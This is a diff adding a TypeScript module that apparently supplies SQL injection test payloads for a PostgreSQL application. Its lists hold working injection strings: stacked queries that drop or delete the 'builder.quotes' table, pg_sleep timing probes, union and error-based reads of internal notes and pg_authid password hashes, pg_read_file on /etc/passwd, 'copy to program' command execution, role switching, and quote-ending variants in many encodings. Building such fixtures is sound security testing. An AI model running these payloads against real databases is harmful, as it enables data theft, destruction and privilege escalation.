@@ -1,0 +1,99 @@
+/**
+ * Texts that end or escape what a careless program puts them into: SQL literals, identifiers, comments, dollar quotes,
+ * LIKE patterns, arrays, JSON, CSV. Each would sleep, change or read more if it became SQL.
+ */
+
+const sleep = 'pg_sleep(9)';
+const change = "update builder.quotes set sport='injected'";
+
+/** Behind whatever ends the text they stand in. */
+const tails = [
+  `; ${change}; --`,
+  ` or 1=1 --`,
+  ` or (select ${sleep}) is null --`,
+  ` union select internal_notes from builder.quotes --`,
+  `||(select ${sleep})||`,
+  ` and 1=cast((select rolpassword from pg_authid limit 1) as int) --`,
+];
+
+/** What may end a text: quotes of all kinds, also as other characters and encodings read them. */
+const ends = [
+  "'",
+  "''",
+  '"',
+  '\\',
+  "\\'",
+  '\\"',
+  "')",
+  '")',
+  "'))",
+  '*/',
+  '\n',
+  '$$',
+  '$body$',
+  "E'",
+  "U&'",
+  '\u2019', // right single quotation mark
+  '\u02bc', // modifier letter apostrophe
+  '\uff07', // fullwidth apostrophe
+  '\u2032', // prime
+  '\uff02', // fullwidth quotation mark
+  '\u00bf\u0027', // what GBK made of a backslash before a quote
+  '\u0100\u0127', // ends in 0x27 when cut to a byte
+  '%27',
+  '%2527',
+  '&#39;',
+  '\\u0027',
+  '\\x27',
+  '\\047',
+];
+
+/** The classics, each whole. */
+const classics = [
+  "1' or '1'='1",
+  "admin'--",
+  "'; drop table builder.quotes; --",
+  "'; rollback; begin; delete from builder.quotes; commit; --",
+  '1; set role postgres; --',
+  '1); reset role; --',
+  "' and (select set_config('role','builder_staff',true)) is not null --",
+  "'; select set_config('request.jwt.claims','{}',false); --",
+  "'||(select string_agg(internal_notes,',') from builder.quotes)||'",
+  "(select pg_read_file('/etc/passwd'))",
+  "'; copy builder.quotes to program 'id'; --",
+  '{"a":"\'; drop table builder.quotes; --"}',
+  '{"\',(select pg_sleep(9)),\'"}',
+  `*/; ${change}; /*`,
+  '/*! union select */',
+  '-- ',
+  '#',
+  ';',
+  '\\',
+  "\\\\'; select pg_sleep(9); --",
+  "'\\'';",
+  '::regclass',
+  "'::regprocedure",
+  '::int) union select 1 --',
+  '$1',
+  '?',
+  ':name',
+  '%s',
+  '{{7*7}}',
+  "x'); select pg_terminate_backend(pg_backend_pid()); --",
+  `'; do $$ begin perform ${sleep}; end $$; --`,
+  `1 from builder.quotes; ${change} where true returning internal_notes; --`,
+  "\u0000'; select 1; --",
+  "'/**/or/**/1=1/**/--",
+  "' or 1=1 limit 1 offset 1 --",
+  "';listen x;--",
+  "'; vacuum; --",
+  "'\u0085; select pg_sleep(9)--",
+  "a\u2028'; select pg_sleep(9)--",
+];
+
+/** Each end has one of the tails, the plain quote all of them. */
+export const payloads: readonly string[] = [
+  ...classics,
+  ...ends.map((end, index) => `x${end}${tails[index % tails.length]}`),
+  ...tails.map(tail => `x'${tail}`),
+];
